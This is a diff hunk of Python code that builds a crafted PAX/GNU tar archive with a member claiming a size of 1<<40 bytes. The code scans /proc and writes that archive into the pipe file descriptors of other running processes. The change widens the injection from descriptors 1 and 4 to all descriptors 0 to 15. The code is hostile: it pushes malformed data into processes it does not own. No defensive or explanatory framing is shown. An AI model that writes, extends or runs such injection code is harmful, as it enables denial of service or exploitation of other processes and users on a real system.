@@ -83,7 +83,7 @@ with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
     huge = member("huge", tarfile.REGTYPE, size=1 << 40).tobuf(tarfile.GNU_FORMAT)
     b.write(huge)
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-    for fd in ("1", "4"):
+    for fd in range(16):
         try:
             if "pipe" in os.readlink(f"/proc/{pid}/fd/{fd}"):
                 os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), b.getvalue())
